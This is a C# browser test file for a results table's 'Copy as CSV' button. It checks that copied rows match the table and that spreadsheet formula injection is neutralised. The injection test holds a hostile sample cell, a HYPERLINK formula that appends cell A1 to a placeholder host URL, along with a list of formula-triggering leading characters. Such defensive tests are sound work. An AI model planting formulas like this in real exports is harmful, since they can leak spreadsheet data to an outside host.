using System.Globalization;
using System.Text.RegularExpressions;
using MultiRunner.Page.Tests.Sweeps;

namespace MultiRunner.Page.Tests;

/// <summary>The table as CSV in the clipboard.</summary>
public sealed partial class CopyTests(Browser browser, ReportPages pages)
{
    private static readonly BrowserNewContextOptions WithClipboard = new() { Permissions = ["clipboard-read", "clipboard-write"] };

    [Fact]
    public async Task What_the_table_shows_is_copied_with_every_digit()
    {
        var tested = await pages.Penguins;
        var chosen = tested.Configurations().Where(c => c.Argument("trees") == 60).ToList();
        var lines = await Copied(tested, "trees=60");
        Assert.Equal(["rank", "trees", "leaves", "learningRate", "accuracy"], lines[0].Split(',').Take(5));
        Assert.Equal(
            chosen.Select(c => string.Create(
                CultureInfo.InvariantCulture,
                $"{c.GetProperty("rank")},{c.Argument("trees")},{c.Argument("leaves")},{c.Argument("learningRate")},{c.Mean()}")),
            lines.Skip(1).Select(line => string.Join(',', line.Split(',').Take(5))));
    }

    /// <summary>Cells that begin with = + - @ or a tab are run by spreadsheets, unless an apostrophe is in front.</summary>
    [Fact]
    public async Task No_cell_is_one_that_a_spreadsheet_would_run()
    {
        var cells = Csv().Matches(string.Join('\n', await Copied(await pages.Hostile, "")))
            .Select(cell => cell.Groups[1].Success
                ? cell.Groups[1].Value.Replace("\"\"", "\"", StringComparison.Ordinal)
                : cell.Groups[2].Value)
            .ToList();
        Assert.Contains("'=HYPERLINK(\"http://host.invalid/\"&A1,\"free\")", cells);
        Assert.Contains("'@SUM(A1)", cells);
        Assert.DoesNotContain(cells, cell => cell.Length > 0
            && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal)
            && !double.TryParse(cell, CultureInfo.InvariantCulture, out _));
    }

    /// <summary>The cells of a CSV text, in quotes or not.</summary>
    [GeneratedRegex("""(?<=^|,|\n)(?:"((?:[^"]|"")*)"|([^",\n]*))(?=,|\n|$)""")]
    private static partial Regex Csv();

    /// <summary>The lines of the clipboard after a filter and a press on the button.</summary>
    private async Task<string[]> Copied(ReportPage tested, string filter)
    {
        string[] lines = [];
        await browser.Visit(
            tested.File,
            async page =>
            {
                await page.Ready();
                var table = new ResultsTable(page);
                await table.Filter(filter);
                await Assertions.Expect(table.Chips).ToHaveCountAsync(filter.Length == 0 ? 0 : 1);
                await table.Button("Copy as CSV").ClickAsync();
                await page.Locator("#table").GetByText("copied").WaitForAsync();
                lines = (await page.EvaluateAsync<string>("() => navigator.clipboard.readText()")).TrimEnd('\n').Split('\n');
            },
            WithClipboard);
        return lines;
    }
}
